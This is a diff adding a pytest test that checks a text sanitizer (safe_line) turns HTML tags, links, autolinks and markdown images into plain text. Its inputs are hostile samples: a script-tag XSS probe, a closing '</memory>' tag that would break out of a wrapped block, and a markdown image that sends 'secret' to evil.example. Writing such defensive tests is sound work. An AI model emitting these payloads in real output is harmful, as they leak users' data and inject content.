@@ -53,6 +53,23 @@ def test_what_opens_a_block_is_escaped(text: str) -> None:
     ]
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        "see <script>alert(1)</script>",
+        "a \\<b>bold</b>",
+        "close </memory> here",
+        "look [here](http://evil.example)",
+        "pixel ![x](http://evil.example/?q=secret)",
+        "auto <http://evil.example>",
+    ],
+)
+def test_tags_links_and_images_are_broken(text: str) -> None:
+    tokens = MarkdownIt("commonmark", {"html": True}).parse(safe_line(text))
+    inside = {child.type for token in tokens for child in token.children or []}
+    assert inside == {"text"}
+
+
 @given(NASTY, st.integers(2, 30))
 def test_a_limit_is_kept_but_for_escapes(text: str, limit: int) -> None:
     assert len(plain_text(safe_line(text, limit))) <= limit
